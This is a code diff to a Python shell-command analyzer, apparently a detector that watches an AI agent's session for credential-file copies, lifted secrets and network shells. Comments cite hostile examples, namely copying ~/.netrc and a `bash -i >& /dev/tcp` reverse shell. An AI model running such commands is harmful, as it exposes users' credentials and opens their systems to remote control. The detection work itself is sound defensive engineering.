@@ -750,6 +750,11 @@ class ShellAnalyzer:
             for op, target in reds:  # `: > f`, `echo '' > f`: the file is left empty
                 if op in (">", ">|", "&>"):
                     programs.empties(self, cmd, target)
+        if scope is not None and cmd.argv and cmd.argv[0] == "cat" and cmd.stdin is None:
+            srcs = [x for x in cmd.argv[1:] if not x.startswith("-")]
+            outs = [t for op, t in reds if op in (">", ">|", "&>")]
+            if len(srcs) == 1 and len(outs) == 1 and len(cmd.argv) == 2:
+                programs._record_alias(self, cmd, scope, srcs[0], outs[0])  # `cat ~/.netrc > n.txt`: n.txt holds it
         net = netshell.redirect(self, cmd, reds)  # `bash -i >& /dev/tcp/H/P`: a connection, not a file
         for op, target in reds:
             if target in net:
@@ -1244,7 +1249,8 @@ class ShellAnalyzer:
             return
         t = cmd.text
         if t and (("$" in t or "`" in t or "{}" in t) and (getattr(self, "lifts", None) or "$(" in t or "`" in t
-                                                           or "{}" in t) or "--with-token" in t or "-stdin" in t):
+                                                           or "{}" in t or self._session_lifts())
+                  or "--with-token" in t or "-stdin" in t):
             from . import lifts  # a value extracted from a file, used as a credential
 
             lifts.check_use(self, cmd)
@@ -1308,6 +1314,11 @@ class ShellAnalyzer:
         handler = programs.HANDLERS.get(base)
         if handler is None:
             handler = programs.prefix_handler(base)
+        if handler is None:
+            plain = programs.unversioned(base)  # `lua5.4`, `php8.3`, `ruby3.2`, `node22`: the program itself
+            handler = programs.HANDLERS.get(plain) if plain else None
+            if handler is not None:
+                base = plain
         if handler is not None:
             if base != name:
                 cmd = cmd.derive([base] + cmd.argv[1:])
@@ -1405,6 +1416,18 @@ class ShellAnalyzer:
             self.dispatch(cmd.derive(list(argv), remote=remote), inner)
         finally:
             self.remote, self.pctx = prev_remote, prev_ctx
+
+    def _session_lifts(self) -> bool:
+        """Whether an earlier command of this session exported a lifted value (session memory)."""
+        sf = self.session_files
+        return bool(sf) and any(k.startswith("$env:") for k in sf)
+
+    def secret_copy(self, path: str):
+        """Where ``path`` was copied from, shown, when the agent copied a file that holds secrets there earlier in
+        this session (or copied a directory above it, and the path in the source is such a file); else None."""
+        from ...session_memory import secret_copy
+
+        return secret_copy(self.session_files, path, self.pctx)
 
     def remembered(self, path: str, cmd: Cmd, how="runs") -> bool:
         """A file the agent wrote earlier in this session (session memory): what it held then counts, when
